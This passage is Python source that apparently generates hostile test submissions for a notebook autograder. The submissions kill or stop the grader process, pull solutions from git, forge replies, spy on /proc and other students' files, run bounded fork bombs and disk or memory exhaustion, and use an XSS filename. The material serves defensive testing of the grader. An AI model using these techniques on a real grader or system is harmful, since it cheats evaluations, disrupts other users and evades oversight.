    here = [os.path.dirname(sys.prefix), os.path.dirname(os.path.realpath(sys.prefix))]
    for k in list(_P.get("known_paths", [])) + here:
        g = os.path.join(k, ".git")
        try:
            out = subprocess.run(["git", "-c", "safe.directory=*", "--git-dir", g, "show", f"HEAD:course/{mod}.py"],
                                 capture_output=True, timeout=5, env={**os.environ, "HOME": os.getcwd()})
        except Exception:
            continue
        if out.returncode == 0 and _real(out.stdout.decode()):
            m = types.ModuleType("course." + mod)
            m.__file__ = f"<git {mod}>"
            sys.modules["course." + mod] = m
            try:
                exec(compile(out.stdout, m.__file__, "exec"), m.__dict__)
                return m
            except BaseException:
                sys.modules.pop("course." + mod, None)
    return None

for _mod in ("_checks", "activations", "losses", "optim", "regularization", "mlp"):
    try:
        if _P["how"] in ("path", "pyc"):
            _MODS[_mod] = _load(_mod)
        elif _P["how"] == "meta":
            _MODS[_mod] = _meta_games(_mod)
        elif _P["how"] == "git":
            _MODS[_mod] = _git(_mod)
    except BaseException:
        pass

def sigma(z, name):
    return _MODS["activations"].get(name).f(np.asarray(z, dtype=float))

def forward(x, weights, biases, activation, output_activation=None):
    net = _MODS["mlp"].MLP.from_weights(weights, biases, activation=activation,
                                        output_activation=output_activation or activation)
    return net.forward(x)
'''

AUTODIFF = '''
from course.autodiff.nn import MLP as _ADMLP
from course.autodiff.value import Value as _Value


def forward(x, weights, biases, activation, output_activation=None):
    import course.autodiff.nn as nn
    # the autodiff package's own activation functions on Value objects
    X = np.atleast_2d(np.asarray(x, dtype=float))
    out = []
    for row in X:
        a = [_Value(float(v)) for v in row]
        for l, W in enumerate(weights):
            act = (output_activation or activation) if l == len(weights) - 1 else activation
            f = nn._activation(act)
            b = None if biases is None else biases[l]
            a = [f(sum((w * ai for w, ai in zip(Wr, a)), _Value(0.0 if b is None else float(b[j]))))
                 for j, Wr in enumerate(np.asarray(W, dtype=float).tolist())]
        out.append([v.data for v in a])
    out = np.array(out)
    return out if np.ndim(x) == 2 else out[0]
'''


def delegate(ctx: Ctx, how: str = "direct") -> dict:
    answers = {"forward": DELEGATE, "half_mse": HALF_MSE_OK, "sigma": "", "layer": ""}
    if how == "direct":
        # sigma and layer live in the forward cell; their own cells are emptied
        return B.with_answers(answers, base=B.EXERCISE)
    if how == "autodiff":
        nb = B.with_answers({"sigma": B.SIGMA_OK, "half_mse": HALF_MSE_OK, "forward": AUTODIFF}, base=B.EXERCISE)
        return nb
    code = _kernel_code(BYPASS, ctx.params(how=how)) + '''

def layer(a_prev, W, b, name):
    z = np.asarray(a_prev, dtype=float) @ np.asarray(W, dtype=float).T
    if b is not None:
        z = z + np.asarray(b, dtype=float)
    return sigma(z, name)
''' + HALF_MSE_OK
    return _append_cell(B.load(B.EXERCISE), code)


# ------------------------------------------------------------------ class 9: stopping the grader
KILL = r'''
# kill (or stop) the grader: the parent chain, and every process of this test run that runs course.grade
def _targets():
    out = set()
    p = os.getppid()
    for _ in range(4):
        if p <= 1:
            break
        cmd = _cmdline(p)
        if any(s in cmd for s in ("course.grade", "course/grade", "bwrap", "unshare")):
            out.add(p)
        try:
            with open(f"/proc/{p}/stat") as fh:
                p = int(fh.read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid() and "course.grade" in _cmdline(pid) and _ours(pid):
            out.add(int(pid))
    return out

def _strike():
    sig = signal.SIGSTOP if _P["how"] == "stop" else signal.SIGKILL
    for t in _targets():
        try:
            os.kill(t, sig)
        except OSError:
            pass
        if _P["how"] == "kill":
            try:
                os.killpg(os.getpgid(t), signal.SIGKILL)
            except OSError:
                pass

_strike()

def sigma(z, name):
    _strike()
    raise NotImplementedError()
'''


def kill_grader(ctx: Ctx, how: str = "kill") -> dict:
    return _append_cell(B.load(B.EXERCISE), _kernel_code(KILL, ctx.params(how=how)))


# ------------------------------------------------------------------ extra: the network
NETWORK = r'''
# reach the test's listeners: TCP on 127.0.0.1 and the host's address, an abstract and a path unix socket,
# from python and from /bin/sh
def _try(family, addr, tag):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(addr)
        s.sendall((_P["marker"] + " " + tag).encode())
        s.close()
    except Exception:
        pass

_try(socket.AF_INET, ("127.0.0.1", _P["tcp_port"]), "tcp-loopback")
try:
    _try(socket.AF_INET, (socket.gethostbyname(socket.gethostname()), _P["tcp_port"]), "tcp-host")
except Exception:
    pass
_try(socket.AF_UNIX, "\0" + _P["abstract_name"], "unix-abstract")
_try(socket.AF_UNIX, _P["unix_path"], "unix-path")
try:
    code = "import socket; s = socket.create_connection(('127.0.0.1', {}), 2); s.sendall(b'{} sh')".format(
        _P["tcp_port"], _P["marker"])
    subprocess.run(["/bin/sh", "-c", 'exec "$0" -c "$1"', sys.executable, code], timeout=5)
except Exception:
    pass
'''


def network(ctx: Ctx) -> dict:
    return _prepend_cell(B.load(B.EXERCISE), "setup", _kernel_code(NETWORK, ctx.params()))


# ----------------------------------------------------------------- class 6: answers and scratch files that stop batches
RETURNS_WEIRD = '''
def sigma(z, name):
    out = []
    for _ in range(100000):
        out = [out]
    return out


def layer(a_prev, W, b, name):
    return 10 ** 100000


def forward(x, weights, biases, activation, output_activation=None):
    return float("nan")


def half_mse(y_hat, y):
    return [float("inf"), float("-inf"), float("nan")]
'''

FORGE_WEIRD = r'''
def sigma(z, name):
    _write_raw(b'{"id": "' + str(_request_ids()[0]).encode() + b'", "status": "ok", "value": '
               + b"[" * 200000 + b"]" * 200000 + b', "message": ""}\n')
    raise NotImplementedError()

def layer(a_prev, W, b, name):
    _write_raw(b'{"id": "' + str(_request_ids()[0]).encode() + b'", "status": "ok", "value": 1'
               + b"0" * 100000 + b', "message": ""}\n')
    raise NotImplementedError()

def forward(x, weights, biases, activation, output_activation=None):
    _write_raw(b'{"id": "' + str(_request_ids()[0]).encode()
               + b'", "status": "ok", "value": 1e999999, "message": ""}\n')
    raise NotImplementedError()

def half_mse(y_hat, y):
    _write_raw(b'{"id": "' + str(_request_ids()[0]).encode() + b'", "status": "ok", "value": {"a": '
               + b'{"a": ' * 100000 + b"1" + b"}" * 100001 + b', "message": "\xff\xfe"}\n')
    raise NotImplementedError()
'''

SCRATCH_TRAPS = r'''
# files the grader may look at after the kernel is gone: .kernel.log as a FIFO (or a link to /dev/zero),
# a directory 3000 levels deep, a directory without permissions, names that are not UTF-8
for name in (".kernel.log", "kernel.log", ".log", "log.txt", "stderr", "stdout", "output.log"):
    try:
        if os.path.lexists(name):
            os.unlink(name)
        if _P["trap"] == "fifo":
            os.mkfifo(name)
        else:
            os.symlink("/dev/zero", name)
    except OSError:
        pass
if _P["trap"] == "fifo":
    here = os.getcwd()
    try:
        os.mkdir("deep")
        os.chdir("deep")
        for i in range(3000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
    os.chdir(here)
    try:
        os.makedirs("locked/inner", exist_ok=True)
        open("locked/inner/f", "w").close()
        os.chmod("locked/inner", 0)
        os.chmod("locked", 0o500)
    except OSError:
        pass
    try:
        open(b"\xff\xfe-not-utf8", "w").close()
    except OSError:
        pass

def sigma(z, name):
    os._exit(7)        # the grader now asks why the kernel died (and may read its log)

def forward(x, weights, biases, activation, output_activation=None):
    os.kill(os.getpid(), signal.SIGKILL)
'''


def returns_weird(ctx: Ctx) -> dict:
    return _append_cell(B.load(B.EXERCISE), RETURNS_WEIRD)


def forge_weird(ctx: Ctx) -> dict:
    return _append_cell(B.load(B.EXERCISE), _kernel_code(FORGE_WEIRD, ctx.params()))


def scratch_traps(ctx: Ctx, trap: str) -> dict:
    return _append_cell(B.load(B.EXERCISE), _kernel_code(SCRATCH_TRAPS, ctx.params(trap=trap)))


# ------------------------------------------------------------------ the list
@dataclass
class Attack:
    name: str
    klass: int  # the attack class (10: others)
    exercise: str
    what: str
    build: Callable[[Ctx], dict]


ATTACKS = [
    Attack("forge_patch", 1, "ex01", "patch course.grade (Outcome, judge) and the runner's locals", forge_patch),
    Attack("forge_patch_ex07", 1, "ex07", "the same on ex07 (store cases and methods)",
           lambda c: forge_patch(c, "ex07")),
    Attack("forge_pipe", 1, "ex01", "write 'stored' answers with the request id from the stack to the reply pipe",
           forge_pipe),
    Attack("forge_thread", 1, "ex01", "a thread takes over the request pipe and answers every call 'stored'",
           forge_thread),
    Attack("forge_thread_ex06", 1, "ex06", "the same on ex06", lambda c: forge_thread(c, "ex06")),
    Attack("spy_repo", 2, "ex01", "solutions/ found from sys.prefix, course.__file__, .pth files, mountinfo",
           lambda c: spy(c, ["repo"])),
    Attack("spy_repo_ex06", 2, "ex06", "the same on ex06", lambda c: spy(c, ["repo"], "ex06")),
    Attack("spy_git", 2, "ex01", "git show HEAD:solutions/..., zlib of loose objects in .git",
           lambda c: spy(c, ["git"])),
    Attack("spy_checkpoints", 2, "ex01", ".ipynb_checkpoints next to the submissions",
           lambda c: spy(c, ["checkpoints"])),
    Attack("spy_neighbours", 2, "ex01", "other students' folders and files of the batch",
           lambda c: spy(c, ["neighbours"])),
    Attack("spy_reports", 2, "ex01", "earlier reports and feedback in /tmp and /var/tmp",
           lambda c: spy(c, ["reports"])),
    Attack("spy_env", 2, "ex01", "environment variables, /proc/*/environ and cmdline", lambda c: spy(c, ["env"])),
    Attack("spy_proc", 2, "ex01", "/proc of the grader: environ, root/solutions, open files",
           lambda c: spy(c, ["proc"])),
    Attack("steal_requests", 2, "ex01", "read the other kernels' request pipes through /proc/PID/fd/0", steal),
    Attack("feedback_inject", 3, "ex01", "2000-char messages and class names with HTML, headings, newlines",
           feedback_inject),
    Attack("hidden_echo", 3, "ex01", "functions put their (hidden) inputs into messages, wrong shapes, wrong value",
           hidden_echo),
    Attack("nan_ex07", 7, "ex07", "NaN where keeps_the_mean compares with a threshold", nan_ex07),
    Attack("nan_ex04", 7, "ex04", "NaN predictions where close_to_sine compares RMS with a limit", nan_ex04),
    Attack("delegate", 8, "ex01", "sigma, layer, forward call course.activations and course.MLP", delegate),
    Attack("delegate_path", 8, "ex01", "load activations.py / mlp.py by file path (editable install, repo)",
           lambda c: delegate(c, "path")),
    Attack("delegate_pyc", 8, "ex01", "load __pycache__/*.pyc of the forbidden modules",
           lambda c: delegate(c, "pyc")),
    Attack("delegate_meta", 8, "ex01", "remove import hooks, forget the stubs, repository first on sys.path",
           lambda c: delegate(c, "meta")),
    Attack("delegate_git", 8, "ex01", "exec course/mlp.py from git show HEAD:course/mlp.py",
           lambda c: delegate(c, "git")),
    Attack("delegate_autodiff", 8, "ex01", "forward pass with course.autodiff",
           lambda c: delegate(c, "autodiff")),
    Attack("network", 10, "ex01", "connect to TCP, abstract and path unix sockets of the test", network),
]

HOSTILE = [
    Attack("persist_setsid", 4, "ex01", "fork, setsid, PDEATHSIG 0, double fork, exec sleep (keeps the pipes)",
           lambda c: persist(c, "setsid")),
    Attack("persist_daemon", 4, "ex01", "daemon that writes files and kills later kernels of the run",
           lambda c: persist(c, "daemon")),
    Attack("persist_ipc", 4, "ex01", "SysV shm 512 MiB, sem, msg; POSIX shm and files in /dev/shm, /tmp, /var/tmp",
           lambda c: persist(c, "ipc")),
    Attack("busy", 5, "ex01", "32 busy processes", lambda c: resource(c, "busy")),
    Attack("fork_tree", 5, "ex01", "a fork bomb bounded at 511 processes", lambda c: resource(c, "fork_tree")),
    Attack("threads", 5, "ex01", "300 busy threads", lambda c: resource(c, "threads")),
    Attack("disk", 5, "ex01", "64 MiB files until ENOSPC (2.5 GiB cap), 20000 files, a 1 TiB sparse file",
           lambda c: resource(c, "disk")),
    Attack("memory", 5, "ex01", "four children with 768 MiB each", lambda c: resource(c, "memory")),
    Attack("stdout", 5, "ex01", "1 GB of output, garbage on the reply pipe", lambda c: resource(c, "stdout")),
    Attack("tarpit", 10, "ex01", "every call sleeps 9 s of the 10 s timeout", lambda c: resource(c, "tarpit")),
    Attack("close_pipes", 10, "ex01", "close the pipes, /dev/null over fds 0-2", lambda c: resource(c, "close_pipes")),
    Attack("signals", 10, "ex01", "SIG_IGN for TERM/INT, alarm(1), SIGSTOP itself", lambda c: resource(c, "signals")),
    Attack("recursion", 10, "ex01", "setrecursionlimit(10**7) and infinite recursion",
           lambda c: resource(c, "recursion")),
    Attack("kill_grader", 9, "ex01", "SIGKILL the parent chain and the grader process", kill_grader),
    Attack("stop_grader", 9, "ex01", "SIGSTOP the grader process", lambda c: kill_grader(c, "stop")),
]


# ------------------------------------------------------------------ class 6: files that try to stop the batch
def _nb_text(nb: dict) -> str:
    return json.dumps(nb, indent=1)


def _mutate(fn):
    def build(path: Path, ctx: Ctx) -> Path:
        nb = B.load(B.EXERCISE)
        fn(nb)
        path.write_text(_nb_text(nb), encoding="utf-8")
        return path
    return build


def _answer_cell(nb, gid="sigma"):
    return next(c for c in nb["cells"] if B.gid(c) == gid)


def _raw(text_fn):
    def build(path: Path, ctx: Ctx) -> Path:
        path.write_bytes(text_fn())
        return path
    return build


def _deep_json() -> bytes:
    text = _nb_text(B.load(B.EXERCISE))
    return text.replace('"metadata": {', '"metadata": {"deep": ' + "[" * 100000 + "]" * 100000 + ", ", 1).encode()


def _huge_int() -> bytes:
    text = _nb_text(B.load(B.EXERCISE))
    return text.replace('"execution_count": null', '"execution_count": 1' + "0" * 100000, 1).encode()


def _nonutf8_content() -> bytes:
    text = _nb_text(B.load(B.EXERCISE)).encode()
    return text.replace(b"# YOUR CODE HERE", b"# caf\xe9 \xff\xfe", 1)


def _fifo(path: Path, ctx: Ctx) -> Path:
    os.mkfifo(path)
    return path


def _devzero(path: Path, ctx: Ctx) -> Path:
    os.symlink("/dev/zero", path)
    return path


def _big(path: Path, ctx: Ctx) -> Path:
    nb = B.load(B.EXERCISE)
    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "@@BIG@@"})
    head, tail = _nb_text(nb).split("@@BIG@@")
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(head)
        chunk = "x" * (1 << 20)
        for _ in range(200):
            fh.write(chunk)
        fh.write(tail)
    return path


def _nonutf8_name(path: Path, ctx: Ctx) -> Path:
    bpath = os.fsencode(path.parent) + b"/caf\xe9-\xff.ipynb"
    with open(bpath, "wb") as fh:
        fh.write(_nb_text(B.load(B.EXERCISE)).encode())
    return Path(os.fsdecode(bpath))


def _html_name(path: Path, ctx: Ctx) -> Path:
    p = path.parent / "<img src=x onerror=alert(1)> `x` INJECTED.ipynb"
    p.write_text(_nb_text(B.load(B.EXERCISE)), encoding="utf-8")
    return p


def _notebook(builder):
    def build(path: Path, ctx: Ctx) -> Path:
        path.write_text(_nb_text(builder(ctx)), encoding="utf-8")
        return path
    return build


def _set(path_fn, value):
    def mutate(nb):
        path_fn(nb, value)
    return mutate


MALFORMED: dict[str, Callable[[Path, Ctx], Path]] = {
    "metadata_null": _mutate(lambda nb: nb.update(metadata=None)),
    "metadata_list": _mutate(lambda nb: nb.update(metadata=[1, 2])),
    "course_meta_list": _mutate(lambda nb: nb["metadata"].update(course=["ex01"])),
    "exercise_list": _mutate(lambda nb: nb["metadata"]["course"].update(exercise=["ex01"])),
    "cell_metadata_null": _mutate(lambda nb: _answer_cell(nb).update(metadata=None)),
    "source_not_strings": _mutate(lambda nb: _answer_cell(nb).update(source=[1, None, {"a": 2}])),
    "source_number": _mutate(lambda nb: _answer_cell(nb).update(source=42)),
    "grade_id_list": _mutate(lambda nb: _answer_cell(nb)["metadata"]["nbgrader"].update(grade_id=["sigma"])),
    "grade_id_int": _mutate(lambda nb: _answer_cell(nb)["metadata"]["nbgrader"].update(grade_id=7)),
    "nbgrader_string": _mutate(lambda nb: _answer_cell(nb)["metadata"].update(nbgrader="yes")),
    "cell_type_list": _mutate(lambda nb: _answer_cell(nb).update(cell_type=["code"])),
    "cells_dict": _mutate(lambda nb: nb.update(cells={"0": nb["cells"][0]})),
    "cells_null_entries": _mutate(lambda nb: nb["cells"].extend([None, 3, "x"])),
    "deep_json": _raw(_deep_json),
    "huge_int": _raw(_huge_int),
    "nonutf8_content": _raw(_nonutf8_content),
    "empty_file": _raw(lambda: b""),
    "big_file": _big,
    "fifo": _fifo,
    "devzero_link": _devzero,
    "nonutf8_name": _nonutf8_name,
    "html_name": _html_name,
    "returns_weird": _notebook(returns_weird),
    "forge_weird": _notebook(forge_weird),
    "scratch_fifo": _notebook(lambda c: scratch_traps(c, "fifo")),
    "scratch_devzero": _notebook(lambda c: scratch_traps(c, "devzero")),
}
